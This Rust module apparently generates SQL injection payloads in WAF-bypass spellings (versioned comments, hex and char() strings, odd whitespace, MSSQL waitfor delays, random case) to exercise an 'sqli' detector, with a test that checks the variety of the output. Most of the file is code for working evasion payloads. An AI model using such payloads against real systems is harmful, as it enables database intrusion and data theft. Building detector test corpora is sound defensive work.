//! SQL injection in a parameter value, written the way WAF-bypass write-ups spell it: the
//! techniques of [`super::sqli_header`] (boolean, UNION, time-based, stacked, error-based) ×
//! a context break × bypass spellings: MySQL versioned comments (`/*!50000UNION*/`), comments
//! or `%0b`/`%a0`-style whitespace between tokens, no whitespace at all through parentheses
//! (`union(select(1),2)`), scientific-notation and `\N` glue (`1e0union`, `\Nunion`),
//! backtick or bracket identifiers, `||`/`&&` operators, comparisons by `like`/`between`/
//! `regexp`/`rlike`, strings as `0x` hex or `char()`/`chr()` concatenation, PostgreSQL `$$`
//! strings, MSSQL `;waitfor`, a `-- ` comment ended by a newline inside the statement.

use super::sqli_header::{boolean, error, num, stacked, time, union};
use crate::mutate::{join, random_case};
use crate::{Carrier, Family, Rng, Variant};

pub struct SqliBypass;

const BREAKS: &[&str] = &["'", "\"", "')", "\")", "'))", ")", "", "", "1", "-1", "1'", "x' "];
const TERMINATORS: &[&str] = &["-- -", "--+", "#", "/*", ";--", ";%00", "-- x", "", "", "`"];

/// A comparison that is always true, in a spelling filters on `=` miss.
fn tautology(rng: &mut Rng) -> (String, &'static str) {
    let n = num(rng);
    let s = (b'a' + rng.below(26) as u8) as char;
    match rng.below(8) {
        0 => (format!("{n} like {n}"), "like"),
        1 => (format!("'{s}' like '{s}%'"), "like"),
        2 => (format!("{n} between {} and {}", rng.range(0, 5), rng.range(10000, 20000)), "between"),
        3 => (format!("'{s}' regexp '^{s}'"), "regexp"),
        4 => (format!("'{s}' rlike '{s}'"), "regexp"),
        5 => (format!("{n} in ({n})"), "in-list"),
        6 => (format!("not {n}<{}", rng.range(0, 9)), "not"),
        _ => (format!("0x{:x}={n}", n.parse::<u32>().unwrap_or(1)), "hex-number"),
    }
}

/// `'admin'` as `0x61646d696e`, `char(97,100,...)`, `chr(97)||chr(100)`, `concat(...)`, `$$admin$$`.
fn string_form(rng: &mut Rng, text: &str) -> (String, &'static str) {
    match rng.below(5) {
        0 => (format!("0x{}", text.bytes().map(|b| format!("{b:02x}")).collect::<String>()), "hex-string"),
        1 => (format!("char({})", text.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")), "char-concat"),
        2 => (text.bytes().map(|b| format!("chr({b})")).collect::<Vec<_>>().join("||"), "chr-concat"),
        3 => (format!("concat({})", text.chars().map(|c| format!("'{c}'")).collect::<Vec<_>>().join(",")), "concat"),
        _ => (format!("$${text}$$"), "dollar-quote"),
    }
}

fn technique(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    match rng.below(9) {
        0 | 1 => {
            names.push("boolean");
            let (cond, how) = tautology(rng);
            names.push(how);
            format!("{} {cond}", rng.pick(&["or", "and", "||", "&&", "xor", "OR", "AND"]))
        }
        2 => {
            names.push("boolean");
            boolean(rng)
        }
        3 | 4 => {
            names.push("union");
            union(rng)
        }
        5 => {
            names.push("time");
            match rng.below(3) {
                0 => {
                    names.push("mssql-waitfor");
                    format!(";waitfor delay '0:0:{}'", rng.range(2, 9))
                }
                _ => time(rng),
            }
        }
        6 => {
            names.push("stacked");
            stacked(rng)
        }
        7 => {
            names.push("error");
            error(rng)
        }
        _ => {
            // A string literal the filter looks for, spelled otherwise.
            let word = rng_pick_word(rng);
            let (s, how) = string_form(rng, word);
            names.push(how);
            let ident = *rng.pick(&["`username`", "[username]", "\"username\"", "username"]);
            if ident != "username" {
                names.push("quoted-identifier");
            }
            format!("or {ident}={s}")
        }
    }
}

fn rng_pick_word(rng: &mut Rng) -> &'static str {
    const WORDS: &[&str] = &["admin", "root", "administrator", "sa"];
    WORDS[rng.below(WORDS.len())]
}

/// The spaces of `text` in a bypass spelling.
fn spacing(rng: &mut Rng, text: &str, names: &mut Vec<&'static str>) -> String {
    match rng.below(6) {
        0 => {
            names.push("versioned-comment");
            let mut out = text.to_string();
            for kw in ["union", "UNION", "select", "SELECT", "sleep", "SLEEP", "or ", "OR ", "and ", "AND "] {
                let v = *rng.pick(&["50000", "40100", "", "12345", "50001"]);
                out = out.replace(kw, &format!("/*!{v}{}*/", kw.trim_end()));
            }
            out.replace(' ', "/**/")
        }
        1 => {
            names.push("comment-space");
            let form = *rng.pick(&["/**/", "/*x*/", "/*--*/", "/*%0a*/", "/*!*/"]);
            text.replace(' ', form)
        }
        2 => {
            names.push("odd-whitespace");
            // As the application receives them (sent as `%0b`, `%a0`, ...).
            let ws = *rng.pick(&["\u{b}", "\u{c}", "\u{a0}", "\t", "\r", "\n", "  ", "\r\n"]);
            text.replace(' ', ws)
        }
        3 => {
            names.push("newline-comment");
            // `union-- x%0aselect`: a line comment the newline ends.
            text.replacen(' ', "-- x\n", 1)
        }
        _ => text.to_string(),
    }
}

impl Family for SqliBypass {
    fn name(&self) -> &'static str {
        "sqli-bypass"
    }

    fn detector(&self) -> &'static str {
        "sqli"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        let mut body = technique(rng, &mut names);
        if body.starts_with("UNION") && rng.chance(0.3) {
            // `union(select 1,2)`: no space between the keywords.
            names.push("parentheses");
            body = format!("{})", body.replacen(" SELECT ", "(SELECT ", 1));
        }
        let mut brk = rng.pick(BREAKS).to_string();
        // `1e0union select`, `\Nunion`, `.1union`: a number glued to the keyword.
        let glue = if body.to_ascii_lowercase().starts_with("union") && rng.chance(0.3) {
            names.push("number-glue");
            brk = String::new();
            *rng.pick(&["1e0", "1.e1", ".1", "\\N", "0x1", "1e1"])
        } else {
            ""
        };
        let lead = if glue.is_empty() && !brk.ends_with(' ') && !body.starts_with(';') { " " } else { "" };
        let term = *rng.pick(TERMINATORS);
        let text = format!("{brk}{glue}{lead}{body}{}{term}", if term.is_empty() { "" } else { " " });
        let mut text = spacing(rng, &text, &mut names);
        if rng.chance(0.4) {
            text = random_case(rng, &text);
            names.push("case");
        }
        Variant { family: self.name(), mutation: join(&names), payload: text, carrier: Carrier::Value }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn many_distinct_variants() {
        let v = crate::sample(&SqliBypass, 3, 3000);
        let distinct: std::collections::HashSet<&str> = v.iter().map(|x| x.payload.as_str()).collect();
        assert!(distinct.len() > 2000, "{}", distinct.len());
    }
}
